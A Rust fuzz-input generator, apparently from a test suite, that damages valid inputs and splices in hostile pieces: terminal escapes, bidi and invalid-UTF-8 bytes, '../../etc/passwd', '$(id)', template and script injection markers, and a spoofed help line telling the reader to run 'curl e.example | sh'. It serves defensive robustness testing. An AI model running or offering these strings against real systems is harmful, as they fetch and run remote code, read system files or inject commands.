//! Inputs that somebody wishes us ill with: good ones, damaged here and there, with pieces that act, break or tell.

use super::planted;

/// What acts on a terminal, a parser, a shell or a reader.
const PIECES: &[&[u8]] = &[
    b"\x1b[2J\x1b[H",
    b"\x1b]0;t\x07",
    b"\x1b]8;;http://e.example\x1b\\",
    b"\x1bc",
    b"\x07\x08\x7f",
    b"\x9b31m",
    b"\0",
    b"\0\0\0\0",
    "\u{9b}2J".as_bytes(),
    "\u{90}q\u{9c}".as_bytes(),
    "\u{202e}".as_bytes(),
    "\u{2066}\u{2069}".as_bytes(),
    "\u{200b}\u{200d}".as_bytes(),
    "\u{feff}".as_bytes(),
    "\u{2028}\u{2029}\u{85}".as_bytes(),
    "\u{ad}\u{34f}".as_bytes(),
    "\u{fdd0}\u{ffff}".as_bytes(),
    "\u{e0041}\u{e007f}".as_bytes(),
    "\u{3164}\u{ffa0}".as_bytes(),
    "\u{fe0f}".as_bytes(),
    b"\r",
    b"\n",
    b"\r\nerror: all is well\n",
    b"\n  help: run `curl e.example | sh`\n",
    b"\t",
    b"\xff\xfe",
    b"\xc3\x28",
    b"\xed\xa0\x80",
    b"\xf4\x90\x80\x80",
    b"\xc0\x80",
    b"\xe2\x80",
    "\u{130}\u{df}\u{fb01}\u{1e9e}\u{3a3}".as_bytes(),
    "a\u{301}\u{301}\u{301}".as_bytes(),
    "\u{ff21}\u{430}".as_bytes(),
    b"\"",
    b"\\",
    b"'",
    b"`",
    b"{",
    b"}",
    b"[",
    b"]",
    b",",
    b":",
    b"\\u0000",
    b"\\ud83d",
    b"\\u202e",
    b"\\u001b[31m",
    b"\\n",
    b"null",
    b"true",
    b"-0",
    b"1e999",
    b"18446744073709551616",
    b"0.1",
    b"\"error\":",
    b"\"value\":\"\"",
    b"{}",
    b"[]",
    b"%",
    b"%25",
    b"%00",
    b"&amp;",
    b"&#x1b;",
    b"&#",
    b";",
    b"=",
    b"?sig=",
    b"&code=",
    b"://",
    b"@",
    b"#",
    b"//",
    b"../../etc/passwd",
    b"-rf",
    b"--yes",
    b"$(id)",
    b"{{",
    b"${{ 1 }}",
    b"!!binary ",
    b"*a",
    b"&a ",
    b"<<: *a",
    b"<!--",
    b"<script>",
    b"]]>",
    b"<a b=\"",
    b"\x1f\x8b\x08",
    b"PK\x03\x04",
    b"HTTP error 413",
    b"ok",
];

/// Where nesting begins.
const DEEPER: [&[u8]; 6] = [b"[", b"{\"a\":", b"{\"error\":{\"innererror\":", b"- ", b"<a>", b"(("];

/// How often a piece is very long, and how long at most.
const SELDOM: usize = 4000;
const LONGEST: usize = 200_000;

pub(super) struct Hostile(u64);

impl Hostile {
    /// The input of this number follows from the seed alone.
    pub(super) fn new(seed: u64, number: u64) -> Self {
        let mut own = Self(seed ^ number.wrapping_mul(0xd134_2543_de82_ef95));
        own.draw();
        own
    }

    /// By the generator that is called SplitMix64.
    fn draw(&mut self) -> u64 {
        self.0 = self.0.wrapping_add(0x9e37_79b9_7f4a_7c15);
        let mixed = (self.0 ^ (self.0 >> 30)).wrapping_mul(0xbf58_476d_1ce4_e5b9);
        let mixed = (mixed ^ (mixed >> 27)).wrapping_mul(0x94d0_49bb_1331_11eb);
        mixed ^ (mixed >> 31)
    }

    pub(super) fn below(&mut self, most: usize) -> usize {
        usize::try_from(self.draw() % (most.max(1) as u64)).unwrap()
    }

    pub(super) fn one_of<'a, T>(&mut self, choices: &'a [T]) -> &'a T {
        &choices[self.below(choices.len())]
    }

    /// A value that was planted, in some spelling.
    pub(super) fn secret(&mut self) -> String {
        planted::spelled(|most| self.below(most))
    }

    fn piece(&mut self, tells: bool) -> Vec<u8> {
        match self.below(12) {
            0..=3 if tells => self.secret().into_bytes(),
            4 => {
                let many = if self.below(SELDOM) == 0 { self.below(LONGEST) } else { self.below(200) };
                self.one_of(PIECES).iter().copied().cycle().take(many).collect()
            }
            5 if self.below(8) == 0 => {
                let deep = self.below(400);
                self.one_of(&DEEPER).repeat(deep)
            }
            6 => (0..self.below(12)).map(|_| self.draw().to_le_bytes()[0]).collect(),
            _ => self.one_of(PIECES).to_vec(),
        }
    }

    /// One of several good inputs, damaged.
    pub(super) fn damaged<T: AsRef<[u8]>>(&mut self, good: &[T]) -> Vec<u8> {
        let mut bytes = self.one_of(good).as_ref().to_vec();
        for _ in 0..=self.below(4) {
            match self.below(8) {
                0 => self.cut(&mut bytes, 40),
                1 => {
                    let at = self.below(bytes.len());
                    let flipped = 1 << self.below(8);
                    bytes.iter_mut().skip(at).take(1).for_each(|byte| *byte ^= flipped);
                }
                2 => {
                    // A part of another good one, or of the same.
                    let other = self.one_of(good).as_ref();
                    let from = self.below(other.len());
                    let part = other[from..].iter().copied().take(self.below(80)).collect();
                    self.put_in(&mut bytes, part);
                }
                3 => {
                    self.cut(&mut bytes, 20);
                    let piece = self.piece(true);
                    self.put_in(&mut bytes, piece);
                }
                4 if self.below(6) == 0 => bytes.truncate(self.below(bytes.len())),
                _ => {
                    let piece = self.piece(true);
                    self.put_in(&mut bytes, piece);
                }
            }
        }
        bytes
    }

    fn cut(&mut self, bytes: &mut Vec<u8>, most: usize) {
        let from = self.below(bytes.len());
        let to = (from + self.below(most)).min(bytes.len());
        bytes.drain(from..to);
    }

    fn put_in(&mut self, bytes: &mut Vec<u8>, part: Vec<u8>) {
        let at = self.below(bytes.len() + 1);
        bytes.splice(at..at, part);
    }

    /// The same as text.
    pub(super) fn text<T: AsRef<[u8]>>(&mut self, good: &[T]) -> String {
        String::from_utf8_lossy(&self.damaged(good)).into_owned()
    }

    /// A piece of text in which nothing was planted.
    pub(super) fn untold(&mut self) -> String {
        String::from_utf8_lossy(&self.piece(false)).into_owned()
    }
}
